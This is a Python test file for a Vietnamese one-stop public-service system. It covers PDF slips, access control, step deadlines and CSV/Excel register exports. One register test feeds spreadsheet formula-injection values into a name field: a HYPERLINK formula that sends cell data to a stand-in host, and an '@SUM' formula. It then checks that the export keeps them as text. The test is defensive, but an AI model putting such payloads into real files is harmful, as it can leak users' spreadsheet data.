"""Slips (forms 01–07) as PDF, readable in Vietnamese, only for those who may see the dossier."""

import io
from datetime import datetime, timedelta

import pytest
from pypdf import PdfReader

from motcua.conftest import sign_in_with_second_factor
from motcua.core.time import VN_TZ, to_local
from motcua.dossiers.slips import available_slips
from motcua.dossiers.tests.test_lifecycle import _do, _submit

# What the results app passes when it has signed the electronic result (tested there).
E_RESULT = {"result": {"code": "KQTEST000001", "number": "1/2026", "sha256": "0" * 64}}

pytestmark = pytest.mark.django_db


def text_of(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def test_every_slip_of_a_dossiers_life_prints_in_vietnamese(client, world):
    dossier = _submit(world)
    assert available_slips(dossier) == ["control"]
    dossier = _do(world, dossier, "receive")
    dossier = _do(world, dossier, "request_supplement", items=[{"vi": "Bản sao giấy chứng nhận ly hôn"}])
    dossier = _do(world, dossier, "stop", note="Người nộp không bổ sung")
    assert available_slips(dossier) == ["receipt", "supplement", "stop", "control"]
    client.force_login(world["citizen"])
    receipt = client.get(f"/tai-khoan/ho-so/{dossier.pk}/phieu/receipt")
    assert receipt["Content-Type"] == "application/pdf"
    text = text_of(receipt.content)
    assert "GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ" in text and dossier.code in text
    assert "Độc lập - Tự do - Hạnh phúc" in text and "Nguyễn Văn An" in text
    assert "Bản sao giấy chứng nhận ly hôn" in text_of(
        client.get(f"/tai-khoan/ho-so/{dossier.pk}/phieu/supplement").content
    )
    assert "Người nộp không bổ sung" in text_of(
        client.get(f"/tai-khoan/ho-so/{dossier.pk}/phieu/stop").content
    )
    control = text_of(client.get(f"/tai-khoan/ho-so/{dossier.pk}/phieu/control").content)
    assert "PHIẾU KIỂM SOÁT" in control and "Tiếp nhận" in control and "Yêu cầu bổ sung" in control
    assert client.get(f"/tai-khoan/ho-so/{dossier.pk}/phieu/result").status_code == 404  # no result yet


def test_apology_and_result_slips(client, world):
    dossier = _do(world, _submit(world), "receive")
    dossier = _do(
        world,
        dossier,
        "apologise",
        role="head",
        note="Chờ xác minh",
        new_due_at=dossier.current_due_at + timedelta(days=20),
    )
    new_date = f"{to_local(dossier.current_due_at):%d/%m/%Y}"
    dossier = _do(world, dossier, "hand_over", to_person=world["officials"]["head"])
    dossier = _do(world, dossier, "approve", role="head")
    dossier = _do(world, dossier, "sign", role="signer", data=E_RESULT)
    sign_in_with_second_factor(client, world["officials"]["receiver"])
    apology = text_of(client.get(f"/van-phong/ho-so/{dossier.pk}/phieu/apology").content)
    assert "XIN LỖI" in apology and new_date in apology and "Chờ xác minh" in apology
    # A granted result is the signed electronic one (results app): no unsigned copy beside it.
    assert client.get(f"/van-phong/ho-so/{dossier.pk}/phieu/result").status_code == 404
    refused = _do(world, _submit(world, key="k2"), "receive")
    refused = _do(world, refused, "hand_over", to_person=world["officials"]["head"])
    refused = _do(world, refused, "refuse_after_processing", role="head", note="Không đủ điều kiện")
    refused = _do(world, refused, "sign", role="signer")
    result = text_of(client.get(f"/van-phong/ho-so/{refused.pk}/phieu/result").content)
    assert "Từ chối giải quyết" in result


def test_slips_are_only_for_the_applicant_and_the_agencies_involved(client, world, django_user_model):
    dossier = _do(world, _submit(world), "receive")
    client.force_login(django_user_model.objects.create_user(username="vneid-x", personal_id="079090999999"))
    assert client.get(f"/tai-khoan/ho-so/{dossier.pk}/phieu/receipt").status_code == 404
    sign_in_with_second_factor(client, world["stranger"])
    assert client.get(f"/van-phong/ho-so/{dossier.pk}/phieu/receipt").status_code == 404


def test_the_register_lists_received_dossiers_as_csv(client, world):
    dossier = _do(world, _submit(world), "receive")
    sign_in_with_second_factor(client, world["officials"]["receiver"])
    response = client.get("/van-phong/ho-so/so-theo-doi.csv")
    text = response.content.decode("utf-8-sig")
    assert response["Content-Type"].startswith("text/csv") and dossier.code in text and "Mã hồ sơ" in text


def _named(world, django_user_model):
    """Officials with Vietnamese names, as the slip prints them."""
    names = {
        "receiver": "Lê Thị Thu",
        "processor": "Trần Văn Bảo",
        "head": "Phạm Minh Đức",
        "signer": "Võ Thị Hằng",
    }
    for role, name in names.items():
        django_user_model.objects.filter(pk=world["officials"][role].pk).update(last_name=name)
        world["officials"][role].refresh_from_db()
    return names


def _walk(world, monkeypatch):
    """Reception → hand-over → approval → signature → delivery on a fixed clock. The budgets of
    1.004873: reception 2 h, verification 12 h, signature 4 h, delivery 2 h (office hours 07:30–11:30,
    13:00–17:00; Tuesday 24/11/2026 is a day off)."""
    import motcua.dossiers.services as services

    clock = [datetime(2026, 11, 19, 16, 0, tzinfo=VN_TZ)]  # Thursday
    monkeypatch.setattr(services, "now", lambda: clock[0])
    dossier = _do(world, _submit(world), "receive")  # reception due Friday 20, 08:30
    clock[0] = datetime(2026, 11, 19, 16, 30, tzinfo=VN_TZ)  # a day before: early
    dossier = _do(world, dossier, "hand_over", to_person=world["officials"]["processor"])
    clock[0] = datetime(2026, 11, 25, 9, 0, tzinfo=VN_TZ)  # verification was due Monday 23, 11:00: late
    dossier = _do(world, dossier, "approve", role="head")
    clock[0] = datetime(2026, 11, 25, 10, 0, tzinfo=VN_TZ)  # signature due the same day, 14:30
    dossier = _do(world, dossier, "sign", role="signer", data=E_RESULT)
    clock[0] = datetime(2026, 11, 25, 11, 0, tzinfo=VN_TZ)  # delivery due the same day, 13:30
    return _do(world, dossier, "deliver")


def _at(day, hour, minute=0):
    return datetime(2026, 11, day, hour, minute, tzinfo=VN_TZ)


def test_the_control_slip_shows_every_step_with_who_when_and_its_own_outcome(
    client, world, monkeypatch, django_user_model
):
    from motcua.dossiers.control import control_steps

    names = _named(world, django_user_model)
    dossier = _walk(world, monkeypatch)
    steps = control_steps(dossier, dossier.events.order_by("at", "id"), now_at=_at(30, 8))
    assert [(s.key, s.sender, s.receiver, s.started_at, s.due_at, s.ended_at, s.result) for s in steps] == [
        (
            "receive",
            "Nguyễn Văn An",
            names["receiver"],
            _at(19, 16),
            _at(20, 8, 30),
            _at(19, 16, 30),
            "early",
        ),
        ("verify", names["receiver"], names["processor"], _at(19, 16, 30), _at(23, 11), _at(25, 9), "late"),
        ("sign", names["head"], names["signer"], _at(25, 9), _at(25, 14, 30), _at(25, 10), "on_time"),
        ("deliver", names["signer"], names["receiver"], _at(25, 10), _at(25, 13, 30), _at(25, 11), "on_time"),
    ]
    sign_in_with_second_factor(client, world["officials"]["receiver"])
    text = " ".join(text_of(client.get(f"/van-phong/ho-so/{dossier.pk}/phieu/control").content).split())
    assert "Hạn trả kết quả ban đầu: 16 giờ 00, ngày 25/11/2026" in text
    # the dossier as a whole is on time although one step was late (the original due date decides)
    assert "Kết quả giải quyết hồ sơ (so với hạn ban đầu): Đúng hạn" in text
    table = text[text.index("CÁC BƯỚC GIẢI QUYẾT") : text.index("DIỄN BIẾN HỒ SƠ")]
    rows = [
        ("Tiếp nhận, kiểm tra hồ sơ (2 giờ)", "Nguyễn Văn An", "Trước hạn"),
        ("Công chức tư pháp - hộ tịch tra cứu dữ liệu hộ tịch, dân cư và xác minh (12 giờ)", "", "Trễ hạn"),
        ("Lãnh đạo Ủy ban ký Giấy xác nhận (4 giờ)", names["signer"], "Đúng hạn"),
        ("Trả kết quả (2 giờ)", names["receiver"], "Đúng hạn"),
    ]
    starts = [table.index(name) for name, _, _ in rows] + [len(table)]
    for (name, who, outcome), begin, end in zip(rows, starts, starts[1:], strict=False):
        row = table[begin:end]
        assert outcome in row and who in row, (name, row)
    assert "23:00" not in table  # times are local, never UTC
    assert "11:00 23/11/2026" in table  # the verification's own due time


def test_the_applicants_wait_moves_the_step_due_time_too(world, monkeypatch):
    import motcua.dossiers.services as services
    from motcua.dossiers.control import control_steps

    clock = [_at(19, 8)]
    monkeypatch.setattr(services, "now", lambda: clock[0])
    dossier = _do(world, _submit(world), "receive")  # reception due 10:00
    clock[0] = _at(19, 9)
    dossier = _do(world, dossier, "request_supplement", items=[{"vi": "Ảnh chân dung"}])
    clock[0] = _at(20, 9)  # a working day of waiting for the applicant
    dossier = _do(world, dossier, "supplement_at_counter", note="Đã nhận ảnh")
    clock[0] = _at(20, 9, 30)
    dossier = _do(world, dossier, "hand_over", to_person=world["officials"]["processor"])
    reception, verification, signature, delivery = control_steps(
        dossier, dossier.events.order_by("at", "id"), now_at=_at(30, 8)
    )
    assert (reception.due_at, reception.result) == (_at(20, 10), "on_time")  # not late: it waited
    assert verification.result == "open_late" and verification.ended_at is None  # due 23/11, 13:30
    assert verification.result_label() == "Đang xử lý, đã quá hạn"
    assert (signature.result, delivery.result) == ("not_reached", "not_reached")
    assert signature.started_at is None and signature.result_label() == "Chưa đến bước này"


def test_a_stopped_dossier_shows_the_step_it_stopped_in(world):
    from motcua.core.time import now
    from motcua.dossiers.control import control_outcome, control_steps

    dossier = _do(world, _do(world, _submit(world), "receive"), "stop", note="Người nộp không bổ sung")
    reception, *later = control_steps(dossier, dossier.events.order_by("at", "id"), now_at=now())
    assert reception.result == "stopped" and reception.ended_at is not None
    assert {s.result for s in later} == {"not_reached"}
    assert control_outcome(dossier, now_at=now()).result == "not_judged"


def test_the_register_opens_in_excel_with_a_title_real_dates_and_names_kept_as_text(
    client, world, monkeypatch, django_user_model
):
    from openpyxl import load_workbook

    import motcua.dossiers.services as services

    clock = [_at(19, 8)]
    monkeypatch.setattr(services, "now", lambda: clock[0])
    codes = []
    for key, name, at in (
        ("k1", '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")', _at(19, 8)),
        ("k2", "@SUM(A1:A9)", _at(20, 9, 15)),
        ("k3", "Ngoài kỳ", datetime(2026, 12, 1, 8, 0, tzinfo=VN_TZ)),
    ):
        django_user_model.objects.filter(pk=world["citizen"].pk).update(last_name=name)
        world["citizen"].refresh_from_db()
        clock[0] = at
        codes.append(_do(world, _submit(world, key=key), "receive").code)
    sign_in_with_second_factor(client, world["officials"]["receiver"])
    response = client.get("/van-phong/ho-so/so-theo-doi.xlsx?tu=2026-11-01&den=2026-11-30")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert 'filename="so-theo-doi-20261101-20261130.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "SỔ THEO DÕI HỒ SƠ"
    assert rows[2][0] == world["centre"].name and rows[3][0] == "Từ ngày 01/11/2026 đến ngày 30/11/2026"
    assert rows[4][:4] == ("STT", "Mã hồ sơ", "Thủ tục", "Tổ chức, cá nhân")
    first, second = rows[5:]  # the December dossier is outside the period
    assert first[:5] == (
        1,
        codes[0],
        "Cấp Giấy xác nhận tình trạng hôn nhân",
        '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")',
        datetime(2026, 11, 19, 8, 0),  # a real date, in local time
    )
    assert first[6] == "Đã tiếp nhận" and first[7] is None
    assert second[1] == codes[1] and second[3] == "@SUM(A1:A9)"
    assert second[4] == datetime(2026, 11, 20, 9, 15)
    assert [sheet.cell(row=row, column=4).data_type for row in (6, 7)] == ["s", "s"]  # text, not formulas
    assert sheet.cell(row=6, column=5).number_format == "dd/mm/yyyy hh:mm"


def test_the_control_slip_prints_whatever_length_of_notes_was_typed(client, world):
    dossier = _do(world, _submit(world), "receive")
    items = [{"vi": f"Giấy tờ thứ {n}: " + "rất dài " * 60} for n in range(30)]
    dossier = _do(world, dossier, "request_supplement", items=items)
    dossier = _do(world, dossier, "supplement_at_counter", note="x" * 2000)
    dossier = _do(world, dossier, "stop", note="\n".join(["dòng"] * 400))
    client.force_login(world["citizen"])
    control = client.get(f"/tai-khoan/ho-so/{dossier.pk}/phieu/control")
    assert control.status_code == 200 and "PHIẾU KIỂM SOÁT" in text_of(control.content)
    assert "…" in text_of(control.content)  # cut short in the cell, kept whole on the record
    assert dossier.events.get(action="stop").note.count("dòng") == 400
